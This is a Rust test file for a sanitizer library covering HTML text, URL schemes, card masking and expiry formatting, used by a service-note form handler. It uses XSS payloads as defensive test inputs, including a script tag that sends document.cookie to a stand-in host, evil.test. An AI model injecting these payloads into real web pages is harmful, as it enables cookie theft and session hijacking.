use std::sync::Arc;

use proptest::prelude::*;
use render_guard::{
    RenderGuardError, Sanitizer, TextSanitizer, UrlPolicyBuilder, UrlSanitizer, escape_html,
    expiry_digits, format_expiry, is_valid_card_format, mask_card_number, sanitize_text,
    sanitize_url,
};

// ---------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------

/// Whitespace trimmed by the sanitizers, which also drop U+FEFF.
fn trim_like_browser(text: &str) -> &str {
    text.trim_matches(|c: char| c.is_whitespace() || c == '\u{feff}')
}

/// A user-submitted service note, as a form handler would receive it.
struct ServiceNote {
    author: String,
    body: String,
    link: String,
}

/// What the form handler renders after passing every field through the guard.
struct RenderedNote {
    author: String,
    body: String,
    link: Option<String>,
}

fn render(note: &ServiceNote) -> RenderedNote {
    let link = sanitize_url(&note.link);
    RenderedNote {
        author: sanitize_text(&note.author),
        body: sanitize_text(&note.body),
        link: (!link.is_empty()).then_some(link),
    }
}

// ---------------------------------------------------------------------------
// Text sanitizer
// ---------------------------------------------------------------------------

#[test]
fn text_basic_cases() {
    assert_eq!(sanitize_text("<b>bold</b>"), "bold");
    assert_eq!(sanitize_text("Tom & Jerry"), "Tom &amp; Jerry");
    assert_eq!(sanitize_text(""), "");
    assert_eq!(sanitize_text("  hello  "), "hello");
}

#[test]
fn text_nested_script_removed() {
    let out = sanitize_text(r#"<script>alert("<script>nested</script>")</script>safe"#);
    assert!(out.contains("safe"));
    assert!(!out.contains("script"));
}

#[test]
fn text_common_xss_payloads_neutralized() {
    let payloads = [
        r#"<img src=x onerror="alert(1)">"#,
        r#"<svg/onload=alert(1)>"#,
        r#"<iframe src="javascript:alert(1)"></iframe>"#,
        r#"<SCRIPT SRC=//evil.test/x.js></SCRIPT>"#,
        r#"<a href="javascript:alert(1)">click</a>"#,
        r#""><script>alert(document.cookie)</script>"#,
    ];
    for payload in payloads {
        let out = sanitize_text(payload);
        assert!(!out.contains('<'), "payload {payload:?} -> {out:?}");
        assert!(!out.contains('>'), "payload {payload:?} -> {out:?}");
        assert!(!out.contains('"'), "payload {payload:?} -> {out:?}");
        assert!(!out.to_ascii_lowercase().contains("<script"));
    }
}

#[test]
fn text_layered_scripts_removed_in_one_pass() {
    let layers = 8000;
    let text = format!(
        "{}<script></script>{}tail",
        "<scr".repeat(layers),
        "ipt></script>".repeat(layers)
    );
    assert_eq!(sanitize_text(&text), "tail");
}

#[test]
fn text_sanitizer_struct_matches_free_function() {
    let sanitizer = TextSanitizer::new();
    let input = "  <p>Brake pads & rotors</p>  ";
    assert_eq!(sanitizer.sanitize(input), sanitize_text(input));
    assert_eq!(sanitize_text(input), "Brake pads &amp; rotors");
}

#[test]
fn escape_html_alone_keeps_text() {
    assert_eq!(escape_html("a < b && c"), "a &lt; b &amp;&amp; c");
}

// ---------------------------------------------------------------------------
// URL sanitizer
// ---------------------------------------------------------------------------

#[test]
fn url_basic_cases() {
    assert_eq!(sanitize_url("https://example.com"), "https://example.com");
    assert_eq!(sanitize_url("javascript:alert(1)"), "");
    assert_eq!(
        sanitize_url("data:text/html,<script>alert(1)</script>"),
        ""
    );
    assert_eq!(sanitize_url("/checkout"), "/checkout");
    assert_eq!(sanitize_url(""), "");
}

#[test]
fn url_byte_order_mark_does_not_hide_scheme() {
    assert_eq!(sanitize_url("\u{feff}javascript:alert(1)"), "");
    assert_eq!(sanitize_url("\u{a0}javascript:alert(1)"), "");
}

#[test]
fn url_output_is_never_rewritten() {
    let input = "https://example.com/a b?q=<x>";
    assert_eq!(sanitize_url(input), input);
}

#[test]
fn url_custom_policy() {
    let sanitizer = UrlPolicyBuilder::new()
        .allowed_schemes(["https", "tel"])
        .build()
        .unwrap();
    assert!(sanitizer.is_allowed("tel:+15555550123"));
    assert!(!sanitizer.is_allowed("http://example.com"));
    assert!(!sanitizer.is_allowed("JavaScript:alert(1)"));
}

#[test]
fn url_policy_errors() {
    assert!(matches!(
        UrlPolicyBuilder::new().allow_scheme("not a scheme").build(),
        Err(RenderGuardError::InvalidScheme(_))
    ));
    assert!(matches!(
        UrlPolicyBuilder::new()
            .allowed_schemes(Vec::<&str>::new())
            .build(),
        Err(RenderGuardError::Config(_))
    ));
}

// ---------------------------------------------------------------------------
// Card masking and format
// ---------------------------------------------------------------------------

#[test]
fn card_mask_cases() {
    assert_eq!(mask_card_number("4000123456789012"), "•••• •••• •••• 9012");
    assert_eq!(mask_card_number("4000 1234 5678 9012"), "•••• •••• •••• 9012");
    assert_eq!(mask_card_number("12"), "••");
}

#[test]
fn card_format_cases() {
    assert!(is_valid_card_format("4000123456789012"));
    assert!(is_valid_card_format("4000123456789"));
    assert!(!is_valid_card_format("1234"));
    assert!(!is_valid_card_format("12345678901234567890"));
}

// ---------------------------------------------------------------------------
// Expiry
// ---------------------------------------------------------------------------

#[test]
fn expiry_cases() {
    assert_eq!(format_expiry("1225"), "12 / 25");
    assert_eq!(format_expiry("12/25"), "12 / 25");
    assert_eq!(format_expiry("1"), "1");
    assert_eq!(format_expiry("12"), "12");
}

#[test]
fn expiry_display_and_storage_agree() {
    let raw = "07/28";
    assert_eq!(expiry_digits(raw), "0728");
    assert_eq!(format_expiry(&expiry_digits(raw)), format_expiry(raw));
}

// ---------------------------------------------------------------------------
// End-to-end: form submission
// ---------------------------------------------------------------------------

#[test]
fn e2e_render_hostile_note() {
    let note = ServiceNote {
        author: "<b>Mallory</b>".into(),
        body: r#"Call me <script>fetch("https://evil.test?c="+document.cookie)</script>about the 'recall'"#
            .into(),
        link: "  javascript:alert(1)  ".into(),
    };

    let rendered = render(&note);
    assert_eq!(rendered.author, "Mallory");
    assert_eq!(rendered.body, "Call me about the &#x27;recall&#x27;");
    assert_eq!(rendered.link, None);
}

#[test]
fn e2e_render_benign_note() {
    let note = ServiceNote {
        author: "Dana".into(),
        body: "Tires rotated & balanced".into(),
        link: "/appointments/42".into(),
    };

    let rendered = render(&note);
    assert_eq!(rendered.author, "Dana");
    assert_eq!(rendered.body, "Tires rotated &amp; balanced");
    assert_eq!(rendered.link.as_deref(), Some("/appointments/42"));
}

#[test]
fn e2e_receipt_line_hides_card() {
    let card = "4000-1234-5678-9012";
    let receipt = format!(
        "Paid with {} (exp {})",
        mask_card_number(card),
        format_expiry("0728")
    );
    assert_eq!(receipt, "Paid with •••• •••• •••• 9012 (exp 07 / 28)");
    assert!(!receipt.contains("4000"));
}

// ---------------------------------------------------------------------------
// Concurrency
// ---------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn shared_sanitizers_across_tasks() {
    let sanitizers: Arc<Vec<Box<dyn Sanitizer>>> = Arc::new(vec![
        Box::new(TextSanitizer::new()),
        Box::new(UrlSanitizer::default()),
    ]);

    let mut handles = vec![];
    for i in 0..32 {
        let sanitizers = Arc::clone(&sanitizers);
        handles.push(tokio::spawn(async move {
            let text = sanitizers[0].sanitize(&format!("<i>note {i}</i> & more"));
            let url = sanitizers[1].sanitize(&format!("/vehicles/{i}"));
            (i, text, url)
        }));
    }

    for h in handles {
        let (i, text, url) = h.await.unwrap();
        assert_eq!(text, format!("note {i} &amp; more"));
        assert_eq!(url, format!("/vehicles/{i}"));
    }
}

// ---------------------------------------------------------------------------
// Properties
// ---------------------------------------------------------------------------

proptest! {
    #[test]
    fn prop_text_idempotent(input in any::<String>()) {
        let once = sanitize_text(&input);
        prop_assert_eq!(sanitize_text(&once), once);
    }

    #[test]
    fn prop_markup_heavy_text_idempotent(input in r#"[<>&"'/a-z;# ]{0,64}"#) {
        let once = sanitize_text(&input);
        prop_assert_eq!(sanitize_text(&once), once);
    }

    #[test]
    fn prop_plain_text_only_trimmed(input in r#"[^<>&"']{0,64}"#) {
        prop_assert_eq!(sanitize_text(&input), trim_like_browser(&input));
    }

    #[test]
    fn prop_text_has_no_live_markup(input in any::<String>()) {
        let out = sanitize_text(&input);
        prop_assert!(!out.contains('<'));
        prop_assert!(!out.contains('>'));
        prop_assert!(!out.contains('"'));
        prop_assert!(!out.contains('\''));
    }

    #[test]
    fn prop_url_is_verbatim_or_empty(input in any::<String>()) {
        let out = sanitize_url(&input);
        prop_assert!(out.is_empty() || out == trim_like_browser(&input));
    }

    #[test]
    fn prop_mask_reveals_at_most_four_digits(input in "[0-9 -]{0,24}") {
        let out = mask_card_number(&input);
        prop_assert!(out.chars().filter(char::is_ascii_digit).count() <= 4);
    }
}
